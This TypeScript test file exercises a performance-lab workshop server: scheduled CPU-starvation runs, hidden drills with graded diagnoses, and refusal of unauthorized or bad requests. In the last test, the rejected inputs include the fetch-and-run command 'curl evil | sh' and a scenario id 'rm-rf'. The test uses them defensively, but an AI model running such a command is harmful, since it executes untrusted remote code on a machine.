// Run for everyone and drills through the real realtime server and database: the
// instructor schedules a scenario on the members' machines with a countdown, each
// (hand-made) agent gets it when the countdown ends, and each machine's start, verdict and
// end reach the instructor's view. A drill's runs say nothing to the drilled learner's lab
// page, and their runs list hides them until the instructor reveals the drill. Learners
// and strangers cannot schedule anything; bad requests get clear answers.
import { createWorkshop, joinWorkshop, attachMachine, listLearnerDrills, listScenarioRuns, listWorkshopRuns, revealDrill, submitDrillDiagnosis, syncCurriculum, type TUserSummary } from "@perflab/db";
import {
  LIVE_EVENTS, SCENARIO_EVENTS, type TLiveWorkshopAnnouncement, type TLiveWorkshopMachine, type TLiveWorkshopRunScheduled, type TLiveWorkshopRunUpdate, type TScenarioManifest,
} from "@perflab/protocol";
import type { Socket } from "socket.io-client";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { createDatabaseScenarioStore } from "./database-scenario-store";
import { startLabHarness, TEST_CPU_STARVATION, type TLabHarness } from "./testing/lab-harness";

const CPU_STARVATION: TScenarioManifest = { ...TEST_CPU_STARVATION, variants: [{ name: "cgroup-quota", title: "In a cgroup", parameters: { threads: 2 } }] };
const NOT_IN_THE_KEY: TScenarioManifest = { ...CPU_STARVATION, id: "made-up", variants: undefined };

describe("workshop runs and drills over /live", () => {
  let h: TLabHarness;
  let instructor: TUserSummary;
  let owner: TUserSummary;
  let second: Awaited<ReturnType<TLabHarness["addLearner"]>>;
  let workshopId: string;
  const starts: { machine: string; request: { runId: string; scenarioId: string; parameters: Record<string, number> } }[] = [];

  beforeAll(async () => {
    h = await startLabHarness((db) => ({ scenarioStore: createDatabaseScenarioStore(db, { manifests: () => [CPU_STARVATION, NOT_IN_THE_KEY], exerciseCheck: () => undefined }) }));
    const db = h.testDb.db;
    await syncCurriculum(db, [{ id: "2.2", section: 2, title: "Scheduling", contentHash: "x", exercises: [] }], { isComplete: true });
    instructor = await db.user.create({ data: { email: "teach@example.com", name: "Teacher", role: "INSTRUCTOR" }, select: { id: true, email: true, name: true, role: true } });
    owner = await db.user.findUniqueOrThrow({ where: { id: h.owner.id }, select: { id: true, email: true, name: true, role: true } });
    second = await h.addLearner("Second");
    const third = await h.addLearner("Third");
    const created = await createWorkshop(db, instructor, { title: "Day one", startsAt: new Date(Date.now() - 3_600_000), endsAt: new Date(Date.now() + 3_600_000), topicIds: ["2.2"] });
    if (!("data" in created)) throw new Error("not created");
    workshopId = created.data.id;
    for (const learner of [owner, second.user, third.user]) await joinWorkshop(db, learner, created.data.joinCode);
    await attachMachine(db, owner, workshopId, h.machine.agentId);
    await attachMachine(db, second.user, workshopId, second.machine.agentId); // the third attaches nothing
  });
  afterEach(() => {
    h.disconnectClients();
    starts.length = 0;
  });
  afterAll(() => h.close());

  const agentOf = (name: string, machine: { token: string } | undefined, answer: (request: { runId: string }) => unknown = (request) => ({ data: { runId: request.runId } })) =>
    h.agent(
      (client: Socket) =>
        client.on(SCENARIO_EVENTS.start, (request: (typeof starts)[number]["request"], reply: (response: unknown) => void) => {
          starts.push({ machine: name, request });
          reply(answer(request));
        }),
      machine,
    );
  const updatesOf = (client: Socket) => {
    const updates: TLiveWorkshopRunUpdate[] = [];
    client.on(LIVE_EVENTS.workshopRunUpdate, (update: TLiveWorkshopRunUpdate) => updates.push(update));
    return updates;
  };
  const exit = (client: Socket, runId: string) => client.emit(SCENARIO_EVENTS.event, { t: Date.now(), runId, kind: "exit", status: "done", exitCode: 0 });

  it("runs a scenario for everyone after the countdown; each machine's verdict reaches the instructor; thumbnails follow the machines", async () => {
    const first = await agentOf("first", undefined);
    await agentOf("second", second.machine, () => ({ error: { code: "requirements-missing", message: "stress-ng is not installed" } }));
    const teacher = await h.viewer(instructor.id);
    expect(await h.request(teacher, LIVE_EVENTS.workshopSubscribe, { workshopId })).toEqual({ data: { as: "instructor" } });
    const updates = updatesOf(teacher);
    const learner = await h.viewer(owner.id);
    await h.request(learner, LIVE_EVENTS.workshopSubscribe, { workshopId });
    const announced = h.nextEvent<TLiveWorkshopAnnouncement>(learner, LIVE_EVENTS.workshopAnnouncement);

    const thumbnail = h.nextEvent<TLiveWorkshopMachine>(teacher, LIVE_EVENTS.workshopMachine);
    const t = Date.now();
    await h.sendSamples(first, [{ t, points: [["cpu.idle_pct", 20, { cpu: "all" }], ["cpu.iowait_pct", 5, { cpu: "all" }], ["psi.cpu.some_avg10", 61.25], ["sched.procs_running", 1]] }]);
    expect(await thumbnail).toEqual({ workshopId, machineId: h.machine.agentId, t, cpuBusyPct: 75, psiCpuPct: 61.3, psiMemoryPct: null, psiIoPct: null });

    const scheduled = await h.request<TLiveWorkshopRunScheduled>(teacher, LIVE_EVENTS.workshopRunStart, { workshopId, scenarioId: "cpu-starvation", parameters: { threads: 3 }, durationSeconds: 10, countdownSeconds: 1, isDrill: false });
    if (!("data" in scheduled)) throw new Error(JSON.stringify(scheduled));
    expect(scheduled.data.targets).toEqual([{ userId: owner.id, machineId: h.machine.agentId }, { userId: second.user.id, machineId: second.machine.agentId }]);
    expect(scheduled.data.skipped).toEqual([{ userId: expect.any(String), reason: "no lab machine attached" }]);
    expect(await announced).toEqual({ workshopId, kind: "run-scheduled", workshopRunId: scheduled.data.workshopRunId, isDrill: false, startsAtMs: scheduled.data.startsAtMs });
    expect(starts).toEqual([]); // the countdown

    await expect.poll(() => starts.length, { timeout: 5000 }).toBe(2);
    expect(Date.now()).toBeGreaterThanOrEqual(scheduled.data.startsAtMs);
    expect(starts.map((start) => start.request.parameters)).toEqual([{ threads: 3 }, { threads: 3 }]);
    await expect.poll(() => updates.map((update) => `${update.userId === owner.id ? "first" : "second"}:${update.status}`).sort()).toEqual(["first:running", "second:refused"]);

    const runId = starts.find((start) => start.machine === "first")!.request.runId;
    await h.sendBatch(first, Date.now(), 5);
    await expect.poll(() => updates.some((update) => update.runId === runId && update.reproduced === true && !update.final)).toBe(true);
    exit(first, runId);
    await expect.poll(() => updates.find((update) => update.runId === runId && update.final), { timeout: 5000 }).toMatchObject({ status: "done", reproduced: true });

    const [view] = await listWorkshopRuns(h.testDb.db, instructor, workshopId);
    expect(view!.learners.map((learner) => [learner.name, learner.run?.status, learner.run?.reproduced])).toEqual([["Owner", "done", true], ["Second", "refused", null]]);
    expect(view!.learners[1]!.run!.problem).toBe("stress-ng is not installed");
    expect(updates.find((update) => update.status === "refused")?.problem).toBe("stress-ng is not installed");
  });

  it("hides a drill from the drilled learner until it is revealed, and grades each learner's own diagnosis", async () => {
    const first = await agentOf("first", undefined);
    await agentOf("second", second.machine);
    const teacher = await h.viewer(instructor.id);
    await h.request(teacher, LIVE_EVENTS.workshopSubscribe, { workshopId });
    const updates = updatesOf(teacher);
    const labPage = await h.viewer(owner.id);
    await h.request(labPage, LIVE_EVENTS.subscribe, { machineId: h.machine.agentId, historySeconds: 0 });
    const overheard: unknown[] = [];
    for (const event of [LIVE_EVENTS.scenarioEvent, LIVE_EVENTS.scenarioVerdict]) labPage.on(event, (message) => overheard.push(message));

    const scheduled = await h.request<TLiveWorkshopRunScheduled>(teacher, LIVE_EVENTS.workshopRunStart, { workshopId, scenarioId: "cpu-starvation", variant: "cgroup-quota", countdownSeconds: 0, isDrill: true });
    if (!("data" in scheduled)) throw new Error(JSON.stringify(scheduled));
    const drillId = scheduled.data.workshopRunId;
    await expect.poll(() => starts.length, { timeout: 5000 }).toBe(2);
    expect(starts[0]!.request.parameters).toEqual({ threads: 2 }); // the variant's preset
    const runId = starts.find((start) => start.machine === "first")!.request.runId;
    first.emit(SCENARIO_EVENTS.event, { t: Date.now(), runId, kind: "output", stream: "stdout", line: "starting cpu-starvation in a cgroup" });
    await h.sendBatch(first, Date.now(), 5);
    exit(first, runId);
    await expect.poll(() => updates.some((update) => update.runId === runId && update.final), { timeout: 5000 }).toBe(true);
    expect(overheard).toEqual([]);
    expect((await listScenarioRuns(h.testDb.db, owner, h.machine.agentId)).some((run) => run.id === runId)).toBe(false);
    expect((await listScenarioRuns(h.testDb.db, instructor, h.machine.agentId)).some((run) => run.id === runId)).toBe(true);

    expect(await submitDrillDiagnosis(h.testDb.db, owner, drillId, { subsystem: "cpu", mechanism: "cgroup-throttling", evidence: "nr_throttled climbs every second while the CPUs are mostly idle" })).toMatchObject({ data: {} });
    expect(await submitDrillDiagnosis(h.testDb.db, second.user, drillId, { subsystem: "cpu", mechanism: "run-queue-saturation", evidence: "the run queue is long and PSI cpu is high" })).toMatchObject({ data: {} });
    const [before] = await listLearnerDrills(h.testDb.db, owner, workshopId);
    expect(before).toMatchObject({ id: drillId, revealed: false, answer: null, diagnosis: { mechanism: "cgroup-throttling", isCorrect: null } });

    const revealed = h.nextEvent<TLiveWorkshopAnnouncement>(teacher, LIVE_EVENTS.workshopAnnouncement);
    await revealDrill(h.testDb.db, instructor, drillId, { debrief: "cpu.max throttles a cgroup even on an idle machine." });
    h.io.announceWorkshop({ workshopId, kind: "drill-revealed", workshopRunId: drillId, isDrill: true, startsAtMs: scheduled.data.startsAtMs });
    expect(await revealed).toMatchObject({ kind: "drill-revealed", workshopRunId: drillId });
    const [mine] = await listLearnerDrills(h.testDb.db, owner, workshopId);
    expect(mine).toMatchObject({ revealed: true, answer: { scenarioId: "cpu-starvation", variant: "cgroup-quota", mechanism: "cgroup-throttling", debrief: "cpu.max throttles a cgroup even on an idle machine." }, diagnosis: { isCorrect: true } });
    const [theirs] = await listLearnerDrills(h.testDb.db, second.user, workshopId);
    expect(theirs).toMatchObject({ diagnosis: { mechanism: "run-queue-saturation", isCorrect: false, isSubsystemCorrect: true } });
    expect(JSON.stringify(theirs)).not.toContain("nr_throttled"); // never another learner's answer
    expect((await listScenarioRuns(h.testDb.db, owner, h.machine.agentId)).some((run) => run.id === runId)).toBe(true);
  });

  it("refuses learners, strangers and bad requests, and starts nothing", async () => {
    await agentOf("first", undefined);
    const teacher = await h.viewer(instructor.id);
    const start = (client: Socket, payload: object) => h.request(client, LIVE_EVENTS.workshopRunStart, { workshopId, scenarioId: "cpu-starvation", countdownSeconds: 0, isDrill: false, ...payload });
    expect(await start(await h.viewer(owner.id), {})).toMatchObject({ error: { code: "forbidden" } });
    expect(await start(await h.viewer(h.stranger.id), {})).toMatchObject({ error: { code: "forbidden" } });
    expect(await h.request(await h.viewer(h.stranger.id), LIVE_EVENTS.workshopSubscribe, { workshopId })).toMatchObject({ error: { code: "forbidden" } });
    expect(await start(teacher, { scenarioId: "rm-rf" })).toMatchObject({ error: { code: "unknown-scenario" } });
    expect(await start(teacher, { variant: "no-such" })).toMatchObject({ error: { code: "invalid-parameters" } });
    expect(await start(teacher, { parameters: { threads: 1000 } })).toMatchObject({ error: { code: "invalid-parameters" } });
    expect(await start(teacher, { scenarioId: "made-up", isDrill: true })).toMatchObject({ error: { code: "invalid-parameters", message: "made-up has no answer in the drill key" } });
    expect(await start(teacher, { countdownSeconds: 301 })).toMatchObject({ error: { code: "invalid-request" } });
    expect(await start(teacher, { script: "curl evil | sh" })).toMatchObject({ error: { code: "invalid-request" } });
    expect(await start(teacher, { learnerIds: [h.stranger.id] })).toMatchObject({ error: { code: "no-machines" } });
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(starts).toEqual([]);
  });
});
